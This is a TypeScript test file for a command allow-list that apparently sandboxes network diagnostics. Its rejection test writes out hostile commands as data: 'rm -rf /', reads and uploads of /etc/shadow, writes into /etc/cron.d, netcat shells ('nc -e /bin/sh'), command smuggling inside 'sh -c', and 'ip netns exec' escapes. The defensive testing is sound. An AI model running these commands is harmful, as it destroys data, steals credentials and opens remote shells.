import assert from "node:assert/strict"
import { test } from "node:test"
import { judge } from "./commands.ts"

const runs = (...words: string[]) => "command" in judge(words)

test("network tools run, alone and combined in sh -c", () => {
  for (const words of [
    ["ping", "-c1", "10.0.0.1"],
    ["/bin/ping", "-c1", "10.0.0.1"],
    ["ip", "-4", "addr"],
    ["ip", "route", "get", "1.1.1.1"],
    ["ip", "-s", "link", "show", "eth0"],
    ["ip", "-br", "addr"],
    ["ss", "-tln"],
    ["getent", "hosts", "web"],
    ["sleep", "infinity"],
    ["curl", "-s", "-m", "3", "http://10.0.0.1:8080/"],
    ["curl", "-s", "-o", "/dev/null", "-w", "%{http_code}", "http://10.0.0.1/"],
    ["wget", "-qO-", "http://10.0.0.1/"],
    ["wget", "-q", "-O", "-", "http://10.0.0.1/"],
    ["nc", "-zv", "10.0.0.1", "80"],
    ["cat", "/etc/resolv.conf", "/proc/net/route"],
    ["sh", "-c", "curl -s -o /dev/null -m 3 http://10.0.0.1:8080/ && echo ok; true"],
    ["sh", "-c", "ping -c1 10.0.0.1 || echo 'not there'"],
    ["sh", "-c", 'ip addr | cat /proc/net/dev; echo "done"'],
  ])
    assert.ok(runs(...words), words.join(" "))
})

test("nothing reaches files, other programs or other namespaces", () => {
  for (const words of [
    [],
    ["rm", "-rf", "/"],
    ["sh"],
    ["bash", "-i"],
    ["sh", "-c", "ls"],
    ["sh", "-c", "true; rm x"],
    ["sh", "-c", "echo x > /tmp/x"],
    ["sh", "-c", "echo $(rm x)"],
    ["sh", "-c", "echo `rm x`"],
    ["sh", "-c", "echo $HOME"],
    ["sh", "-c", "ping x & rm y"],
    ["sh", "-c", "eval rm"],
    ["sh", "-c", 'echo "$(rm x)"'],
    ["sh", "-c", "true", "rm"],
    ["cat", "/etc/shadow"],
    ["cat", "/proc/net/../../etc/shadow"],
    ["cat"],
    ["curl", "file:///etc/shadow"],
    ["curl", "-o", "/etc/cron.d/x", "http://10.0.0.1/"],
    ["curl", "-so", "/etc/x", "http://10.0.0.1/"],
    ["curl", "--output=/etc/x", "http://10.0.0.1/"],
    ["curl", "-o/etc/x", "http://10.0.0.1/"],
    ["curl", "-sO", "http://10.0.0.1/"],
    ["curl", "-T", "/etc/shadow", "http://10.0.0.1/"],
    ["curl", "-d", "@/etc/shadow", "http://10.0.0.1/"],
    ["curl", "-K", "/tmp/x"],
    ["curl", "FILE:///etc/shadow"],
    ["wget", "http://10.0.0.1/x"],
    ["wget", "-O", "/etc/x", "http://10.0.0.1/"],
    ["wget", "-O/etc/x", "http://10.0.0.1/"],
    ["wget", "--post-file=/etc/shadow", "http://10.0.0.1/"],
    ["wget", "-qO-", "--use-askpass=/bin/rm", "http://10.0.0.1/"],
    ["nc", "-e", "/bin/sh", "10.0.0.1", "80"],
    ["nc", "-lp", "80", "-c", "sh"],
    ["ip", "netns", "exec", "x", "sh"],
    ["ip", "-b", "/tmp/x"],
    ["ip", "link", "set", "eth0", "netns", "1"],
    ["ip", "net", "exec", "x", "sh"],
    ["ip", "vrf", "exec", "x", "sh"],
    ["ip", "-n", "x", "addr"],
    ["ip", "-batch", "/tmp/x"],
    ["ss", "-D", "/tmp/x"],
    ["dig", "-f", "/etc/shadow"],
    ["/tmp/ping", "x"],
    ["constructor"],
    ["hostname", "evil"],
  ])
    assert.ok(!runs(...words), words.join(" "))
})
